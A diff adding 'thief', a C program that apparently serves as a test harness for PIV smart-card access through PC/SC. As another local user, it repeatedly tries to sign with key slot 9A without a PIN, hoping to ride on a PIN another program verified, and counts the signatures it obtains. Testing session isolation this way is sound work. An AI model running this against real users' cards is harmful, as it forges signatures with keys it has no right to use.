@@ -1,0 +1,293 @@
+/* SPDX-License-Identifier: BSD-2-Clause */
+/*
+ * Another program at the same reader, by direct PC/SC, run as another user.
+ *
+ *   thief sign rsa|ec [MIN MAX]   tries to sign with key 9A without a PIN, again
+ *                                 and again, with pauses of MIN to MAX ms
+ *   thief die rsa|ec [MIN MAX]    the same, and each try dies inside its
+ *                                 transaction
+ *   thief verify PIN              a careless program: VERIFY, and away
+ *
+ * sign and die go on until SIGTERM or SIGINT and then print
+ * "tries=N signed=N refused=N errors=N": what was signed was stolen.
+ */
+#include <signal.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+
+#include <winscard.h>
+
+#define RSA_LEN 256
+#define EC_LEN  32
+#define READERS 4096
+#define MS      1000000L
+#define SECOND  1000000000L
+#define ANSWER  4096
+#define PIN_LEN 8
+
+struct counts {
+	unsigned long tries;
+	unsigned long signed_;
+	unsigned long refused;
+	unsigned long errors;
+};
+
+struct plan {
+	bool dies;
+	bool rsa;
+	long min_ms, max_ms;
+	struct counts *counts; /* shared with the parent */
+};
+
+/* The first card; false when there is none, or no pcscd for us. */
+static bool
+connect_card(SCARDCONTEXT *context, SCARDHANDLE *ret)
+{
+	char names[READERS];
+	DWORD size = sizeof(names), protocol;
+
+	if (SCardListReaders(*context, NULL, names, &size) != SCARD_S_SUCCESS)
+		return false;
+	for (const char *name = names; *name != '\0'; name += strlen(name) + 1)
+		if (SCardConnect(*context, name, SCARD_SHARE_SHARED,
+		        SCARD_PROTOCOL_T0 | SCARD_PROTOCOL_T1, ret,
+		        &protocol) == SCARD_S_SUCCESS)
+			return true;
+	return false;
+}
+
+/* The status word, or 0. */
+static unsigned
+transmit(SCARDHANDLE card, const unsigned char *command, size_t len)
+{
+	unsigned char answer[ANSWER];
+	DWORD n = sizeof(answer);
+
+	if (SCardTransmit(card, SCARD_PCI_T1, command, len, NULL, answer, &n) !=
+	        SCARD_S_SUCCESS ||
+	    n < 2)
+		return 0;
+	return (unsigned)(answer[n - 2] << 8 | answer[n - 1]);
+}
+
+static unsigned
+select_piv(SCARDHANDLE card)
+{
+	static const unsigned char command[] = { 0x00, 0xa4, 0x04, 0x00, 0x09,
+		0xa0, 0x00, 0x00, 0x03, 0x08, 0x00, 0x00, 0x10, 0x00, 0x00 };
+
+	return transmit(card, command, sizeof(command));
+}
+
+static unsigned
+sign(SCARDHANDLE card, bool rsa)
+{
+	static const unsigned char rsa_head[] = { 0x00, 0x87, 0x07, 0x9a, 0x00,
+		0x01, 0x0a, 0x7c, 0x82, 0x01, 0x06, 0x82, 0x00, 0x81, 0x82,
+		0x01, 0x00, 0x00, 0x01 };
+	static const unsigned char ec_head[] = { 0x00, 0x87, 0x11, 0x9a, 0x26,
+		0x7c, 0x24, 0x82, 0x00, 0x81, 0x20 };
+	unsigned char command[sizeof(rsa_head) + RSA_LEN] = { 0 };
+
+	if (!rsa) {
+		memcpy(command, ec_head, sizeof(ec_head));
+		return transmit(card, command, sizeof(ec_head) + EC_LEN + 1);
+	}
+	memset(command, 0xff, sizeof(command));
+	memcpy(command, rsa_head, sizeof(rsa_head));
+	/* The block's first two bytes are in the head; Le is two zeros. */
+	memset(command + sizeof(rsa_head) + RSA_LEN - 2, 0, 2);
+	return transmit(card, command, sizeof(rsa_head) + RSA_LEN);
+}
+
+static bool
+is_signature(unsigned sw)
+{
+	return sw == 0x9000 || sw >> 8 == 0x61;
+}
+
+static void
+count(struct counts *c, unsigned sw)
+{
+	c->tries++;
+	if (is_signature(sw))
+		c->signed_++;
+	else if (sw != 0)
+		c->refused++;
+	else
+		c->errors++;
+}
+
+/* Who comes after the victim finds the application selected, or selects. */
+static unsigned
+steal(SCARDHANDLE card, bool rsa)
+{
+	unsigned sw = sign(card, rsa);
+
+	if (sw != 0 && !is_signature(sw) && select_piv(card) == 0x9000)
+		sw = sign(card, rsa);
+	return sw;
+}
+
+/* false: the connection is of no use any more. */
+static bool
+try_once(const struct plan *p, SCARDHANDLE card)
+{
+	/* Some programs lock the card, some do not. */
+	bool locks = p->dies || p->counts->tries % 2 == 0;
+	unsigned sw = 0;
+
+	if (locks && SCardBeginTransaction(card) != SCARD_S_SUCCESS) {
+		count(p->counts, 0);
+		return false;
+	}
+	sw = steal(card, p->rsa);
+	count(p->counts, sw);
+	if (p->dies)
+		_exit(0);
+	if (locks)
+		(void)SCardEndTransaction(card, SCARD_LEAVE_CARD);
+	return sw != 0;
+}
+
+static void
+pause_between(const struct plan *p)
+{
+	struct timespec t = { 0 };
+	long ns = p->min_ms * MS;
+
+	if (p->max_ms > p->min_ms)
+		ns += random() % ((p->max_ms - p->min_ms) * MS);
+	t.tv_sec = ns / SECOND;
+	t.tv_nsec = ns % SECOND;
+	if (ns > 0)
+		(void)nanosleep(&t, NULL);
+}
+
+/* One connection, for as long as it lasts. */
+static void
+use_card(const struct plan *p)
+{
+	SCARDCONTEXT context;
+	SCARDHANDLE card;
+	bool good;
+
+	if (SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &context) !=
+	    SCARD_S_SUCCESS) {
+		count(p->counts, 0);
+		return;
+	}
+	good = connect_card(&context, &card);
+	if (!good)
+		count(p->counts, 0);
+	while (good) {
+		good = try_once(p, card);
+		pause_between(p);
+	}
+	(void)SCardReleaseContext(context);
+}
+
+/* In a child: what hangs in pcscd can be killed. Never returns. */
+static void
+work(const struct plan *p)
+{
+	srandom((unsigned)getpid());
+	for (;;) {
+		pause_between(p);
+		use_card(p);
+	}
+}
+
+static pid_t
+start(const struct plan *p, const sigset_t *before)
+{
+	pid_t pid = fork();
+
+	if (pid != 0)
+		return pid;
+	(void)sigprocmask(SIG_SETMASK, before, NULL);
+	work(p);
+	_exit(0);
+}
+
+static int
+hammer(struct plan *p)
+{
+	sigset_t set, before;
+	pid_t child;
+	int signal;
+
+	p->counts = mmap(NULL, sizeof(*p->counts), PROT_READ | PROT_WRITE,
+	    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	if (p->counts == MAP_FAILED)
+		return EXIT_FAILURE;
+	(void)sigemptyset(&set);
+	(void)sigaddset(&set, SIGTERM);
+	(void)sigaddset(&set, SIGINT);
+	(void)sigaddset(&set, SIGCHLD);
+	(void)sigprocmask(SIG_BLOCK, &set, &before);
+	do {
+		child = start(p, &before);
+		if (child < 0 || sigwait(&set, &signal) != 0)
+			return EXIT_FAILURE;
+		if (signal != SIGCHLD)
+			(void)kill(child, SIGKILL);
+		(void)waitpid(child, NULL, 0);
+	} while (signal == SIGCHLD);
+	printf("tries=%lu signed=%lu refused=%lu errors=%lu\n",
+	    p->counts->tries, p->counts->signed_, p->counts->refused,
+	    p->counts->errors);
+	return EXIT_SUCCESS;
+}
+
+static int
+verify(const char *pin)
+{
+	unsigned char command[5 + PIN_LEN] = { 0x00, 0x20, 0x00, 0x80, PIN_LEN,
+		0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
+	SCARDCONTEXT context;
+	SCARDHANDLE card;
+
+	if (strlen(pin) > PIN_LEN ||
+	    SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &context) !=
+	        SCARD_S_SUCCESS ||
+	    !connect_card(&context, &card))
+		return EXIT_FAILURE;
+	memcpy(command + 5, pin, strlen(pin));
+	if (select_piv(card) != 0x9000 ||
+	    transmit(card, command, sizeof(command)) != 0x9000)
+		return EXIT_FAILURE;
+	(void)SCardDisconnect(card, SCARD_LEAVE_CARD);
+	(void)SCardReleaseContext(context);
+	return EXIT_SUCCESS;
+}
+
+int
+main(int argc, char **argv)
+{
+	struct plan p = { 0 };
+
+	if (argc == 3 && strcmp(argv[1], "verify") == 0)
+		return verify(argv[2]);
+	if ((argc != 3 && argc != 5) ||
+	    (strcmp(argv[1], "sign") != 0 && strcmp(argv[1], "die") != 0) ||
+	    (strcmp(argv[2], "rsa") != 0 && strcmp(argv[2], "ec") != 0)) {
+		fputs("usage: thief sign|die rsa|ec [MIN MAX]\n"
+		      "       thief verify PIN\n",
+		    stderr);
+		return 2;
+	}
+	p.dies = strcmp(argv[1], "die") == 0;
+	p.rsa = strcmp(argv[2], "rsa") == 0;
+	if (argc == 5) {
+		p.min_ms = atol(argv[3]);
+		p.max_ms = atol(argv[4]);
+	}
+	return hammer(&p);
+}
